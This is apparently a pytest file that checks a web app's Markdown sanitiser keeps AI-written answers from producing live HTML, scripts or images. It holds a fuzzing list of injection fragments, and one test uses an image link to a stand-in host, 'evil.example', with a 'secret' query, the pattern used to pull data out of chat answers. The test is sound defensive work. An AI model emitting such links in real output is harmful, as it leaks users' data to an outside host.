"""An answer as Markdown: what the model wrote does nothing in a program that shows it."""

from __future__ import annotations

import random
import re

import pytest
from markdown_it import MarkdownIt

from app.web.answer_markdown import harmless, markdown_of

PIECES = [
    "`", "``", "```", "~~~", "\n", "\n\n", "<img src=x>", "<b>", "![a](http://x)", "![a][1]", "\\", " ",
    "    ", "> ", "- ", "|", "|-|", "\n[1]: http://x", "a", "<!-- ", "-->", "<script>", "</script>",
    "1. ", "#", "*", "<div>\n", "\t", "![", "](x)", "<?", "<![CDATA[",
]  # fmt: skip
CODE = re.compile(r"<(pre|code)[^>]*>.*?</\1>", re.DOTALL)
LIVE = re.compile(r"<(?:img|b>|script|div|!|\?)")


@pytest.mark.parametrize("tables", [False, True])
def test_no_text_at_all_makes_markup_or_an_image(tables: bool) -> None:
    reader = MarkdownIt("commonmark").enable("table") if tables else MarkdownIt("commonmark")
    draw = random.Random(5)
    for _ in range(1500):
        text = "".join(draw.choices(PIECES, k=draw.randint(1, 16)))
        shown = CODE.sub("", reader.render(harmless(text)))
        assert not LIVE.search(shown), text


@pytest.mark.parametrize(
    "text",
    [
        "Plain, *emphasis* [1], 1 < 2 and a [link](https://example.org).",
        "Write `<b>` and `![a](b)` so.",
        "```html\n<b>x</b>\n![a](b)\n```",
        "Wow! [1]",
    ],
)
def test_what_is_harmless_stays(text: str) -> None:
    assert harmless(text) == text


def test_a_copied_answer_calls_nobody() -> None:
    copied = markdown_of(
        "Q?", "Yes ![x](https://evil.example/?q=secret) <img src=//evil.example>", ()
    )
    assert copied == (
        "**Q?**\n\nYes !&#91;x](https://evil.example/?q=secret) &lt;img src=//evil.example>\n"
    )
